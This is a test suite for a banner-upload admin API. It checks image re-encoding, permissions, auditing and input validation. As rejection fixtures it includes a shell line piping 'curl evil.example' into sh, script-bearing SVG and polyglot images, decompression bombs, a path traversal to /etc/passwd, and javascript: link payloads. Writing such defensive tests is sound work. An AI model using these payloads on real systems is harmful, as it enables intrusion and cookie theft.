import { bannerUploadBytesMax } from '@oddsmith/core';
import { and, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { expect, it } from 'vitest';
import { seedDemo } from '../../db/seed-demo';
import { auditLog } from '../../db/schema';
import { bearer, describeEachDatabase, loginAs, loginDemo, useSuiteApp } from '../../test/app';
import { multipart, picture, pngClaiming } from './banners.test-support';

type Gallery = { banners: { id: string; title: string; link: string | null; order: number; active: boolean; images: Record<string, string> }[] };

describeEachDatabase('banners gallery', (database) => {
  let admin = '';
  let manager = '';
  const testApp = useSuiteApp(database, {}, async () => {
    await seedDemo(testApp.app.db);
    admin = await loginDemo(testApp.app, 'admin');
    manager = await loginDemo(testApp.app, 'staff');
  });

  const upload = (token: string, fields: Record<string, string>, file?: Parameters<typeof multipart>[1]) => {
    const body = multipart(fields, file);
    return testApp.app.inject({ method: 'POST', url: '/api/admin/banners-gallery', headers: { ...bearer(token), ...body.headers }, payload: body.payload });
  };
  const png = async (width = 1600, height = 600) => ({ filename: 'banner.png', type: 'image/png', body: await picture(width, height) });
  const action = (token: string, payload: Record<string, unknown>) => testApp.app.inject({ method: 'POST', url: '/api/admin/misc-actions', headers: bearer(token), payload });
  const gallery = async () => (await action(admin, { actionType: 'fetchGallery' })).json().response as Gallery;
  const shown = async (query: string) => ((await testApp.app.inject({ method: 'GET', url: `/api/banners?${query}` })).json().response as Gallery).banners.map((banner) => banner.title);
  const expectImageRefused = async (file: Parameters<typeof multipart>[1], status = 400) => {
    const before = (await gallery()).banners.length;
    const response = await upload(admin, { title: 'Bad' }, file);
    expect(response.statusCode, response.body).toBe(status);
    expect(response.json()).toMatchObject({ status: 'error', field: 'image' });
    expect((await gallery()).banners).toHaveLength(before);
  };

  it('uploads: re-encoded to the slider sizes without metadata, served immutable with nosniff, audited', async () => {
    const exifJpeg = await sharp(await picture(2000, 800, 'jpeg')).withMetadata({ exif: { IFD0: { Copyright: 'secret-camera-owner' } } }).jpeg().toBuffer();
    expect((await sharp(exifJpeg).metadata()).exif).toBeDefined();
    const response = await upload(manager, { title: 'Welcome', link: '/casino', audience: 'guest', language: 'en' }, { filename: 'welcome.jpg', type: 'image/jpeg', body: exifJpeg });
    expect(response.statusCode, response.body).toBe(201);
    const banner = (response.json().response as Gallery).banners.find((entry) => entry.title === 'Welcome')!;
    expect(banner).toMatchObject({ link: '/casino', active: true });
    const sizes: Record<string, [number, number, string]> = { desktopWebp: [1600, 500, 'webp'], desktopJpeg: [1600, 500, 'jpeg'], mobileWebp: [800, 400, 'webp'], mobileJpeg: [800, 400, 'jpeg'], thumb: [320, 100, 'webp'] };
    for (const [name, [width, height, format]] of Object.entries(sizes)) {
      const image = await testApp.app.inject({ method: 'GET', url: banner.images[name]! });
      expect(image.statusCode).toBe(200);
      expect(image.headers['content-type']).toBe(format === 'webp' ? 'image/webp' : 'image/jpeg');
      expect(image.headers['cache-control']).toContain('immutable');
      expect(image.headers['x-content-type-options']).toBe('nosniff');
      const metadata = await sharp(image.rawPayload).metadata();
      expect([metadata.width, metadata.height, metadata.format]).toEqual([width, height, format]);
      expect(metadata.exif).toBeUndefined();
    }
    const audit = await testApp.app.db.select().from(auditLog).where(and(eq(auditLog.action, 'banner.create'), eq(auditLog.targetId, banner.id)));
    expect(audit[0]?.detail).toMatchObject({ before: null, after: { title: 'Welcome', audience: 'guest' } });
    // Unknown keys and files are 400/404, never a path.
    expect((await testApp.app.inject({ method: 'GET', url: '/api/banners/images/..%2F..%2Fetc/passwd' })).statusCode).toBe(400);
    expect((await testApp.app.inject({ method: 'GET', url: `/api/banners/images/${crypto.randomUUID()}/desktop.webp` })).statusCode).toBe(404);
  });

  it('refuses what is not a plain image, by content: 400 naming image, nothing stored', async () => {
    await expectImageRefused({ filename: 'run.png', type: 'image/png', body: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') });
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="500"><script>alert(1)</script><rect width="1600" height="500"/></svg>');
    await expectImageRefused({ filename: 'banner.png', type: 'image/png', body: svg });
    await expectImageRefused({ filename: 'banner.svg', type: 'image/svg+xml', body: svg });
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(2048, 0)]);
    await expectImageRefused({ filename: 'bomb.png', type: 'image/png', body: zip });
    const polyglot = Buffer.concat([await picture(1600, 600), Buffer.from('<html><script>alert(document.cookie)</script></html>')]);
    await expectImageRefused({ filename: 'poly.png', type: 'image/png', body: polyglot });
    // A pixel bomb: a small file whose header claims 30000×30000 (and one under the side limits but over the pixel cap).
    await expectImageRefused({ filename: 'bomb.png', type: 'image/png', body: await pngClaiming(30_000, 30_000) });
    await expectImageRefused({ filename: 'bomb.png', type: 'image/png', body: await pngClaiming(7_000, 7_000) });
    // Too small to fill the slide.
    await expectImageRefused(await png(400, 200));
    // No file at all.
    await expectImageRefused(undefined);
  });

  it('refuses oversized uploads: a declared 50 MB before reading it, a 5 MB+ file cut off by the multipart limit', async () => {
    const huge = multipart({ title: 'Huge' }, { filename: 'huge.png', type: 'image/png', body: Buffer.alloc(50 * 1024 * 1024, 1) });
    const response = await testApp.app.inject({ method: 'POST', url: '/api/admin/banners-gallery', headers: { ...bearer(admin), ...huge.headers }, payload: huge.payload });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ field: 'image' });
    await expectImageRefused({ filename: 'big.png', type: 'image/png', body: Buffer.concat([await picture(1600, 600), Buffer.alloc(bannerUploadBytesMax, 0)]) }, 413);
  });

  it('validates links and fields: internal paths or https only', async () => {
    for (const link of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '//evil.example/x', 'http://plain.example', 'JaVaScRiPt:alert(1)']) {
      const response = await upload(admin, { title: 'Link', link }, await png());
      expect(response.statusCode, link).toBe(400);
      expect(response.json()).toMatchObject({ field: 'link' });
    }
    expect((await upload(admin, { title: 'Aud', audience: 'robots' }, await png())).json()).toMatchObject({ field: 'audience' });
    expect((await upload(admin, { title: 'Dates', activeFrom: '2030-01-02T00:00:00Z', activeTo: '2030-01-01T00:00:00Z' }, await png())).json()).toMatchObject({ field: 'activeTo' });
    expect((await upload(admin, { title: '' }, await png())).json()).toMatchObject({ field: 'title' });
    const ok = await upload(admin, { title: 'External', link: 'https://example.com/promo?a=1' }, await png());
    expect(ok.statusCode).toBe(201);
    const id = (ok.json().response as Gallery).banners.find((banner) => banner.title === 'External')!.id;
    const edit = await action(admin, { actionType: 'updateBanner', id, link: 'javascript:alert(1)' });
    expect(edit.statusCode).toBe(400);
    expect(edit.json()).toMatchObject({ field: 'link' });
  });

  it('misc-actions: unknown actionType is a 400 naming it; players and roles without content.edit get 403', async () => {
    const unknown = await action(admin, { actionType: 'dropTables' });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json()).toMatchObject({ field: 'actionType' });
    const missing = await action(admin, {});
    expect(missing.json()).toMatchObject({ field: 'actionType' });
    const player = await loginDemo(testApp.app, 'player');
    const support = await loginAs(testApp.app, 'support', 'SupportPass123');
    for (const token of [player, support]) {
      expect((await action(token, { actionType: 'fetchGallery' })).statusCode).toBe(403);
      expect((await upload(token, { title: 'Nope' }, await png())).statusCode).toBe(403);
    }
    expect((await action(admin, { actionType: 'deleteBanner', id: crypto.randomUUID() })).json()).toMatchObject({ field: 'id' });
  });

  it('edits, toggles, reorders and deletes, each audited with before and after', async () => {
    for (const title of ['First', 'Second', 'Third']) expect((await upload(admin, { title }, await png())).statusCode).toBe(201);
    const ids = (await gallery()).banners.map((banner) => banner.id);
    const reversed = [...ids].reverse();
    const reordered = await action(manager, { actionType: 'reorderBanners', ids: reversed });
    expect(reordered.statusCode, reordered.body).toBe(200);
    expect((reordered.json().response as Gallery).banners.map((banner) => banner.id)).toEqual(reversed);
    expect((await action(manager, { actionType: 'reorderBanners', ids: reversed.slice(1) })).json()).toMatchObject({ field: 'ids' });
    const third = (await gallery()).banners.find((banner) => banner.title === 'Third')!;
    const edited = await action(manager, { actionType: 'updateBanner', id: third.id, title: 'Third, renamed', link: '/exchange' });
    expect((edited.json().response as Gallery).banners.find((banner) => banner.id === third.id)).toMatchObject({ title: 'Third, renamed', link: '/exchange' });
    const toggled = await action(manager, { actionType: 'toggleBanner', id: third.id, active: false });
    expect((toggled.json().response as Gallery).banners.find((banner) => banner.id === third.id)?.active).toBe(false);
    const [update] = await testApp.app.db.select().from(auditLog).where(and(eq(auditLog.action, 'banner.update'), eq(auditLog.targetId, third.id)));
    expect(update?.detail).toMatchObject({ before: { title: 'Third' }, after: { title: 'Third, renamed' } });
    const deleted = await action(manager, { actionType: 'deleteBanner', id: third.id });
    expect((deleted.json().response as Gallery).banners.some((banner) => banner.id === third.id)).toBe(false);
    expect((await testApp.app.inject({ method: 'GET', url: third.images.desktopWebp! })).statusCode).toBe(404);
    const actions = (await testApp.app.db.select({ action: auditLog.action }).from(auditLog)).map((row) => row.action);
    expect(actions).toEqual(expect.arrayContaining(['banner.reorder', 'banner.toggle', 'banner.delete']));
  });

  it('the public list: active now, for the audience and language, in order', async () => {
    for (const { id } of (await gallery()).banners) await action(admin, { actionType: 'deleteBanner', id });
    const hour = 3_600_000;
    const iso = (offset: number) => new Date(Date.now() + offset).toISOString();
    const cases: Record<string, string>[] = [
      { title: 'Guests EN', audience: 'guest', language: 'en' },
      { title: 'Players all', audience: 'player', language: 'all' },
      { title: 'Both ES', audience: 'both', language: 'es' },
      { title: 'Future', activeFrom: iso(hour) },
      { title: 'Past', activeFrom: iso(-2 * hour), activeTo: iso(-hour) },
      { title: 'Running', activeFrom: iso(-hour), activeTo: iso(hour) },
      { title: 'Off', active: 'false' },
    ];
    for (const fields of cases) expect((await upload(admin, fields, await png())).statusCode).toBe(201);
    expect(await shown('audience=guest&lang=en')).toEqual(['Guests EN', 'Running']);
    expect(await shown('audience=player&lang=en')).toEqual(['Players all', 'Running']);
    expect(await shown('audience=guest&lang=es')).toEqual(['Both ES', 'Running']);
    expect(await shown('audience=player&lang=hi')).toEqual(['Players all', 'Running']);
    expect((await testApp.app.inject({ method: 'GET', url: '/api/banners?audience=robot' })).json()).toMatchObject({ field: 'audience' });
  });
});
